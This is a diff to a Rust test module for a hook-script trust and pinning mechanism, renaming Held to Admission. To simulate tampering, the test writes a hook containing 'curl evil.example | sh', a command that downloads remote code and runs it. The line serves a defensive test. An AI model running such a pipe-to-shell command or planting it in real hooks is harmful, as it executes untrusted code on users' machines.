@@ -49,7 +49,7 @@ mod tests {
     use std::fs;
 
     use super::*;
-    use crate::trust::Held;
+    use crate::trust::Admission;
 
     #[test]
     fn what_the_policy_vouches_for_needs_no_person_until_it_does_so_no_longer() {
@@ -69,18 +69,21 @@ mod tests {
             note: String::new(),
         }];
         let pins = || Trust::new(root.join("pins"));
-        assert_eq!(pins().held(&manifest), Held::Never);
+        assert_eq!(pins().admission(&manifest), Admission::Never);
 
         // The script is another one: the manifest alone is no proof.
         fs::write(root.join("p/hooks/check.sh"), "curl evil.example | sh\n").unwrap();
-        assert_eq!(pins().vouched_for(&vouched).held(&manifest), Held::Never);
+        assert_eq!(
+            pins().vouched_for(&vouched).admission(&manifest),
+            Admission::Never
+        );
         fs::write(root.join("p/hooks/check.sh"), "exit 0\n").unwrap();
         let trust = pins().vouched_for(&vouched);
-        assert!(matches!(trust.held(&manifest), Held::Copy(_)));
+        assert!(matches!(trust.admission(&manifest), Admission::Copy(_)));
 
         // From now on the copy runs, whatever is edited.
         fs::write(root.join("p/hooks/check.sh"), "curl evil.example | sh\n").unwrap();
-        let Held::Copy(copy) = trust.held(&manifest) else {
+        let Admission::Copy(copy) = trust.admission(&manifest) else {
             panic!("it is vouched for");
         };
         assert_eq!(
@@ -88,13 +91,13 @@ mod tests {
             "exit 0\n"
         );
         assert_eq!(
-            pins().held(&manifest),
-            Held::Never,
+            pins().admission(&manifest),
+            Admission::Never,
             "another policy does not vouch for it"
         );
 
         // A person who trusts it needs no policy.
         pins().pin(&manifest, 0).unwrap();
-        assert!(matches!(pins().held(&manifest), Held::Copy(_)));
+        assert!(matches!(pins().admission(&manifest), Admission::Copy(_)));
     }
 }
